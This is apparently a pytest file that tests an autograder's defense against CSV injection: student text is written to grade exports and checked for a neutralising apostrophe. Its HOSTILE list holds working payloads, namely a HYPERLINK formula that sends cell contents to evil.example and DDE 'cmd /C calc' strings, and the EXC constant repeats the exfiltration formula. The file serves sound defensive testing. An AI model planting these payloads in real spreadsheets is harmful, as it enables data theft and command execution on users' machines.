"""No CSV the grader writes carries a live spreadsheet formula (CSV injection, issue 30).

Student-controlled text (a student id, an exception's type name and message, a problem that quotes
a file, a roster value) is written through each CSV's real writer, and every cell of every file is
checked: none starts with `=`, `+`, `-`, `@`, a tab or a carriage return, unless it is a plain number
the grader computed. Without csvsafe these fail: the hostile text reaches the cell as it is.
"""
import csv
import datetime as dt
import pathlib

import pytest

import grading_helpers as H
from autograder import csvsafe, export, intake, lms
from autograder.batch import _generate

A, NB = "00_fixture", "fixture.ipynb"
UTC = dt.timezone.utc
DUE = dt.datetime(2026, 11, 20, 23, 59, tzinfo=UTC)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2&B2,"details")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
EXC = '=HYPERLINK("http://evil.example/?"&A2,"x")'  # an exception class named like a formula


def _plain_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and text[:1] in "-0123456789."


def _cells(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


def _assert_inert(path):
    bad = [c for c in _cells(path) if c.startswith(DANGEROUS) and not _plain_number(c)]
    assert not bad, f"{path.name}: formula cells {bad}"


# -- the cell rule ---------------------------------------------------------------------------------

@pytest.mark.parametrize("text", HOSTILE + ["=", "-", "@user", "+49 30 1234", "-x", "-1+1", "- 1"])
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert csvsafe.cell(text) == "'" + text


@pytest.mark.parametrize("value", ["", "alice", "GradingError: wrong axis", "'=already", " =1", "5", "0.25",
                                   "-3", "-0.5", "-1e-06", 5, -3.5, None])
def test_plain_text_and_the_graders_numbers_stay_as_they_are(value):
    assert csvsafe.cell(value) == value


def test_the_writer_neutralises_every_cell(tmp_path):
    path = tmp_path / "x.csv"
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csvsafe.writer(fh, lineterminator="\n")
        w.writerow(["student_id", "change"])
        w.writerows([[h, "-2"] for h in HOSTILE])
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[1:] == [["'" + h, "-2"] for h in HOSTILE]  # the text is kept, only made inert
    _assert_inert(path)


def test_lms_write_csv_neutralises(tmp_path):
    path = tmp_path / "canvas.csv"
    lms.write_csv(str(path), [["Student", "ID"], [EXC, "-1"], ["@alice", "7"]])
    assert _cells(path) == ["Student", "ID", "'" + EXC, "-1", "'@alice", "7"]


# -- every CSV of a real export ---------------------------------------------------------------------

@pytest.fixture(scope="module")
def template(tmp_path_factory):
    work = tmp_path_factory.mktemp("template")
    db = work / "template.db"
    _generate(str(H.FIXTURE), str(work / "release"), str(db), A, str(work))
    return str(db)


class Batch:
    def __init__(self, out, template, settings, problems):
        self.out, self.problems, self.export_settings = str(out), problems, settings
        self.prepared = {A: {"template_db": template, "fp": "tests-v1"}}

    def known_students(self):
        return set()


def _result(root, student, rows, message):
    html = root / "shards" / student.strip() / "fixture.html"
    html.parent.mkdir(parents=True, exist_ok=True)
    html.write_text("<p>feedback</p>")
    cells = [{"notebook": "fixture", "grade_id": "fixture_double_tests", "score": 2.0, "max_score": 2.0, "message": ""},
             {"notebook": "fixture", "grade_id": "fixture_rows_tests", "score": rows, "max_score": 3.0,
              "message": message}]
    return {"student": student, "assignment": A, "status": "graded", "cells": cells,
            "feedback": {"fixture": str(html)}, "problems": [f"{student} wrote {message}"]}


def test_every_csv_of_an_export_and_a_regrade_is_inert(tmp_path, template):
    students = ["alice"] + HOSTILE  # ids that intake would refuse: export must not rely on it
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["student_id", "Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Email address"])
        w.writerow(["alice", "=1+1", "-", "@S1", "+asmith", "\tA", "=alice@example.edu"])
    settings = lms.Settings.load({"LMSExport": {"roster": "roster.csv"}, "LatePolicy": {"due": {A: DUE.isoformat()}}},
                                 str(tmp_path), {A})
    subs = []
    for i, s in enumerate(students):
        path = tmp_path / "staged" / str(i) / NB
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(s)
        subs.append(intake.Submission(s, A, files={NB: str(path)}, submitted_at=DUE + dt.timedelta(hours=i),
                                      timestamp_from="=timestamp.txt"))
    taken = intake.IntakeResult(subs, [intake.Problem(s, A, s) for s in HOSTILE], set(students),
                                {(s, A) for s in students})
    out = tmp_path / "out"
    first = {(s, A): _result(tmp_path, s, 3.0, "") for s in students}
    problems = [intake.Problem(s, A, h) for s, h in zip(students, HOSTILE)]
    assert export.write_all(Batch(out, template, settings, problems), taken, first, [A]) == []
    # the rerun: every student loses the rows point to an exception named like a formula
    second = {(s, A): _result(tmp_path, s, 0.0, f"{EXC}: {h}") for s, h in zip(students, HOSTILE + [EXC])}
    assert export.write_all(Batch(out, template, settings, problems), taken, second, [A]) == []
    written = sorted(p.name for p in out.glob("*.csv") if p.name != "mistakes.csv")  # report.py: not ours
    assert written == ["canvas.csv", "grades.csv", "grades_by_cell.csv", "moodle.csv", "problems.csv", "regrade.csv"]
    for name in written:
        _assert_inert(out / name)
    # the hostile text is still there for the instructor to read, only inert
    regrade_rows = H.read_csv(out / "regrade.csv")
    assert {r["student_id"] for r in regrade_rows} == {"alice"} | {"'" + h for h in HOSTILE}
    assert all(r["new_message"].startswith("'" + EXC) and r["change"] == "-3" for r in regrade_rows)
    grades = H.read_csv(out / "grades.csv")
    assert {g["score"] for g in grades} == {"2"} and "'" + HOSTILE[0] in {g["student_id"] for g in grades}
    problems_text = [r["problem"] for r in H.read_csv(out / "problems.csv")]
    assert "'" + HOSTILE[0] in problems_text
    canvas = _cells(out / "canvas.csv")
    assert "'=1+1" in canvas and "'+asmith" in canvas and "'@S1" in canvas
    assert "'=alice@example.edu" in _cells(out / "moodle.csv")


def test_a_legacy_grades_by_cell_still_reads_back(tmp_path, template):
    """regrade.load_record reads grades_by_cell.csv when the record is gone: the grader's own
    numbers (scores) must come back as numbers."""
    from autograder import regrade
    out = tmp_path / "out"
    subs = [intake.Submission("alice", A, files={})]
    taken = intake.IntakeResult(subs, [], {"alice"}, {("alice", A)})
    assert export.write_all(Batch(out, template, lms.Settings(), []), taken,
                            {("alice", A): _result(tmp_path, "alice", 1.5, "")}, [A]) == []
    (out / regrade.RECORD).unlink()
    record = regrade.load_record(str(out))
    assert sorted(c["score"] for c in record[("alice", A)]["cells"]) == [1.5, 2.0]
    assert pathlib.Path(out / "grades_by_cell.csv").read_text().count("'") == 0
